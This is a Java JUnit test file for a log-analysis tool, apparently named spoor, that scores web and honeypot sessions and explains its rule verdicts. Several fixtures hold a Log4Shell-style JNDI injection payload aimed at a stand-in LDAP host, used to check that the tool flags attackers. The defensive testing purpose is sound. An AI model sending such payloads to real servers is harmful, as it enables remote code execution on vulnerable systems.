package dev.spoor.pipeline;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.Before;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

/** What explain says is what analyze computes. */
public class ExplainCommandTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String ATTACK =
      "192.0.2.1 - - [03/Mar/2025:10:15:30 +0000]"
          + " \"GET /?x=%24%7bjndi:ldap://198.51.100.7/a%7d HTTP/1.1\" 200 5 \"-\" \"curl/8.5.0\"";
  private static final String OURS = "test.robot-agent";

  @Rule public final TemporaryFolder folder = new TemporaryFolder();

  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
  private final ByteArrayOutputStream err = new ByteArrayOutputStream();
  private Path log;
  private Path rules;

  @Before
  public void writeFiles() throws IOException {
    log = folder.newFile("access.log").toPath();
    Files.writeString(log, ATTACK + "\n" + ATTACK.replace("192.0.2.1", "192.0.2.2") + "\n");
    rules = folder.newFolder("rules").toPath();
    Files.writeString(
        rules.resolve("agent.yml"),
        """
        title: A robot by its word
        id: %s
        author: Somebody else
        level: critical
        logsource: {category: webserver}
        detection:
          selection:
            cs-user-agent|startswith: curl/
          condition: selection
        """
            .formatted(OURS));
    Files.writeString(
        rules.resolve("wrong.yml"),
        """
        title: Of no known field
        id: test.wrong
        level: high
        logsource: {category: webserver}
        detection:
          selection:
            cs-moon: full
          condition: selection
        """);
  }

  private int run(String... arguments) {
    out.reset();
    err.reset();
    return Main.run(
        List.of(arguments), new PrintStream(out, true, UTF_8), new PrintStream(err, true, UTF_8));
  }

  private List<JsonNode> analyze(Path output, String... more) throws IOException {
    List<String> arguments =
        new ArrayList<>(List.of("analyze", "--input=" + log, "--output=" + output, "--quiet"));
    arguments.addAll(List.of(more));
    assertThat(err.toString(UTF_8), run(arguments.toArray(new String[0])), is(0));
    List<JsonNode> sessions = new ArrayList<>();
    for (String line : Files.readAllLines(output.resolve("sessions/2025-03-03/sessions.jsonl"))) {
      sessions.add(JSON.readTree(line));
    }
    return sessions;
  }

  private static List<String> fired(JsonNode session) {
    List<String> fired = new ArrayList<>();
    session.path("rule_hits").forEach(hit -> fired.add(hit.path("rule").asText()));
    return fired;
  }

  @Test
  public void aRuleIsOneFile() throws IOException {
    Path output = folder.newFolder().toPath();
    List<JsonNode> sessions = analyze(output, "--rules=" + rules);
    assertThat("refused by name and reason", err.toString(UTF_8), containsString("wrong.yml"));
    assertThat(err.toString(UTF_8), containsString("cs-moon"));
    assertThat(sessions, hasSize(2));
    JsonNode hit = null;
    for (JsonNode one : sessions.get(0).path("rule_hits")) {
      hit = one.path("rule").asText().equals(OURS) ? one : hit;
    }
    assertThat(hit.path("author").asText(), is("Somebody else"));
    assertThat(hit.path("level").asText(), is("critical"));

    String id = sessions.get(0).path("sess_uuid").asText();
    assertThat(run("explain", id, "--output=" + output), is(0));
    assertThat(out.toString(UTF_8), containsString("A robot by its word"));
  }

  @Test
  public void withoutARuleItSaysWhatAnalyzeSays() throws IOException {
    Path output = folder.newFolder().toPath();
    String id = analyze(output, "--rules=" + rules).get(0).path("sess_uuid").asText();
    List<JsonNode> without =
        analyze(folder.newFolder().toPath(), "--rules=" + rules, "--without=" + OURS);
    assertThat(run("explain", id, "--output=" + output, "--without=" + OURS, "--json"), is(0));
    JsonNode explained =
        JSON.reader()
            .with(DeserializationFeature.FAIL_ON_TRAILING_TOKENS)
            .readTree(out.toString(UTF_8));
    ObjectNode expected = without.get(0).deepCopy();
    expected.set("processed_at", explained.get("processed_at"));
    assertThat(explained, is(expected));
    assertThat(fired(explained).contains(OURS), is(false));
  }

  @Test
  public void contributionsSumToTheScore() throws IOException {
    for (JsonNode session : analyze(folder.newFolder().toPath(), "--rules=" + rules)) {
      int sum = 0;
      for (JsonNode contribution : session.path("contributions")) {
        sum += contribution.path("points").asInt();
      }
      assertThat(session.path("risk_score").asInt(), is(sum));
      assertThat(sum >= 70, is(true));
    }
  }

  @Test
  public void aLineShowsItsValuesAsRulesSeeThem() {
    assertThat(run("explain", ATTACK), is(0));
    String said = out.toString(UTF_8);
    assertThat(said, containsString("read as combined"));
    assertThat(said, containsString("decoded  ${jndi:ldap://198.51.100.7/a}"));
    assertThat(said, containsString("attacker, HIGH"));
  }

  /** A record of a session, and an event of a report without an id, from which one is made. */
  @Test
  public void aLineOfAHoneypotIsJudgedAsInARun() throws IOException {
    String paths = "[{'path':'/?x=${jndi:ldap://198.51.100.7/a}','timestamp':1741000000}]";
    for (String line :
        List.of(
            "{'sess_uuid':'s1','peer_ip':'192.0.2.9','start_time':1741000000,'paths':"
                + paths
                + "}",
            "{'method':'GET','path':'/a?x=${jndi:ldap://198.51.100.7/a}','peer':{'ip':'192.0.2.9','port':4},"
                + "'timestamp':'2025-03-03T10:15:30','uuid':'sensor','response_msg':{'response':{'message':"
                + "{'detection':{'name':'index'},'sess_uuid':null}}}}")) {
      String json = line.replace('\'', '"');
      Files.writeString(log, json + "\n");
      ObjectNode expected = analyze(folder.newFolder().toPath()).get(0).deepCopy();
      assertThat(run("explain", json, "--json"), is(0));
      JsonNode explained = JSON.readTree(out.toString(UTF_8));
      expected.set("processed_at", explained.get("processed_at"));
      assertThat(explained, is(expected));
      assertThat(explained.path("verdict").asText(), is("attacker"));
      assertThat(run("explain", json), is(0));
      assertThat(out.toString(UTF_8), containsString("${jndi:ldap://198.51.100.7/a}"));
    }
    assertThat(
        run("explain", "{\"sess_uuid\":\"s1\",\"peer_ip\":1e9999999999}", "--format=honeypot"),
        is(1));
    assertThat(err.toString(UTF_8), containsString("bad number"));
  }

  /** Three hundred pages in six hours, of which the sensor says no times, are no burst. */
  @Test
  public void requestsWithoutTimesHaveNoRate() throws IOException {
    StringBuilder paths = new StringBuilder();
    for (int i = 0; i < 300; i++) {
      paths.append(i == 0 ? "" : ",").append("'/page/").append(i).append('\'');
    }
    String line =
        "{'sess_uuid':'s1','peer_ip':'192.0.2.9','start_time':1741000000,'end_time':1741021600,"
            + "'user_agent':'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101"
            + " Firefox/132.0','paths':["
            + paths
            + "]}";
    assertThat(run("explain", line.replace('\'', '"'), "--json"), is(0));
    JsonNode session = JSON.readTree(out.toString(UTF_8));
    JsonNode features = session.path("features");
    assertThat(features.path("req_count").asInt(), is(300));
    for (String name : List.of("rate_mean", "rate_peak_10s", "iat_cv", "max_sustained_clicks")) {
      assertThat(
          name, features.path(name).isNull() || features.path(name).isMissingNode(), is(true));
    }
    assertThat(session.path("attack_types").toString(), not(containsString("denial_of_service")));
    assertThat(session.path("contributions").toString(), not(containsString("regular as a clock")));
  }

  @Test
  public void aRuleThatIsRefusedIsNamedForALineToo() {
    assertThat(run("explain", ATTACK, "--rules=" + rules), is(0));
    assertThat(
        err.toString(UTF_8),
        is(
            "spoor: refused "
                + rules.resolve("wrong.yml")
                + " (test.wrong): line 7: cs-moon: there is no such field in requests\n"));
  }

  /** It has no category; one visit to a page of the site is no probe. */
  @Test
  public void aMildRuleMakesNobodyAnAttacker() throws IOException {
    Path mild = folder.newFolder().toPath();
    Files.writeString(
        mild.resolve("blog.yml"),
        """
        title: Visit to the blog
        id: test.blog
        level: low
        logsource: {category: webserver}
        detection:
          selection: {path|startswith: /blog}
          condition: selection
        """);
    String visit =
        "192.0.2.1 - - [03/Mar/2025:10:15:30 +0000] \"GET /blog HTTP/1.1\" 200 5 \"-\""
            + " \"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0\"";
    assertThat(run("explain", visit, "--json"), is(0));
    String before = JSON.readTree(out.toString(UTF_8)).path("verdict").asText();
    assertThat(run("explain", visit, "--json", "--rules=" + mild), is(0));
    JsonNode explained = JSON.readTree(out.toString(UTF_8));
    assertThat(explained.path("verdict").asText(), is(before));
    assertThat(fired(explained), is(List.of("test.blog")));
  }

  @Test
  public void nothingOfALineReachesTheTerminalAsItIs() {
    assertThat(run("explain", ATTACK.replace("curl/", "\u001b[31mcurl/")), is(0));
    assertThat(out.toString(UTF_8), not(containsString("\u001b")));
  }

  @Test
  public void whatIsLeftOutMustBeThere() throws IOException {
    String wrong = "--without=test.robot-agend";
    String said = "spoor: " + wrong + ": there is no such rule. Did you mean " + OURS + "?\n";
    assertThat(run("explain", ATTACK, "--rules=" + rules, wrong), is(2));
    assertThat(err.toString(UTF_8), is(said));
    assertThat(out.toString(UTF_8), is(""));
    Path output = folder.newFolder().toPath();
    String id = analyze(output, "--rules=" + rules).get(0).path("sess_uuid").asText();
    assertThat(run("explain", id, "--output=" + output, wrong), is(2));
    assertThat(err.toString(UTF_8), is(said));
    assertThat(out.toString(UTF_8), is(""));
    String again = "--output=" + folder.newFolder();
    assertThat(
        run("analyze", "--input=" + log, again, "--quiet", "--rules=" + rules, wrong), is(2));
    assertThat(err.toString(UTF_8), is(said));
  }

  @Test
  public void thePageHasNeitherTrailingBlanksNorPartsOfNothing() {
    assertThat(run("explain", ATTACK), is(0));
    for (String line : out.toString(UTF_8).split("\n", -1)) {
      assertThat(line, line.stripTrailing(), is(line));
      assertThat(line, line.startsWith("     +0 "), is(false));
    }
  }

  @Test
  public void aValueIsShownAsRulesSeeItAndNotOtherwise() {
    String agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    assertThat(run("explain", ATTACK.replace("curl/8.5.0", agent)), is(0));
    String values = out.toString(UTF_8).substring(0, out.toString(UTF_8).indexOf("\nsession "));
    assertThat(values, containsString("  user agent         raw      " + agent + "\n"));
    assertThat(
        values, not(containsString("Gecko/20100101 Firefox/128.0\n                     path")));
  }

  @Test
  public void whatASourceCouldNotTellIsInTheReport() throws IOException {
    Path output = folder.newFolder().toPath();
    analyze(output, "--geoip=" + rules.resolve("nowhere.mmdb"), "--trustedProxies=10.0.0.0/8,::/0");
    assertThat(
        err.toString(UTF_8),
        is(
            "spoor: --trustedProxies=::/0 is very many addresses, each of which may claim any"
                + " address\n"
                + "spoor: geo database "
                + rules.resolve("nowhere.mmdb")
                + " cannot be used: no such file\n"));
    JsonNode report = JSON.readTree(output.resolve("run.json").toFile());
    assertThat(report.at("/detections/enrich_unknown").toString(), is("{\"geoip\":2}"));
  }

  @Test
  public void wrongUseIsOneLine() throws IOException {
    assertThat(run("explain"), is(2));
    assertThat(run("explain", "abc"), is(2));
    assertThat(run("explain", "not a line of any log"), is(1));
    assertThat(err.toString(UTF_8).lines().count(), is(1L));
    Path output = folder.newFolder().toPath();
    assertThat(run("explain", "abc", "--output=" + output), is(1));
    analyze(output);
    assertThat(run("explain", "abc", "--output=" + output), is(1));
    assertThat(err.toString(UTF_8).lines().count(), is(1L));
  }
}
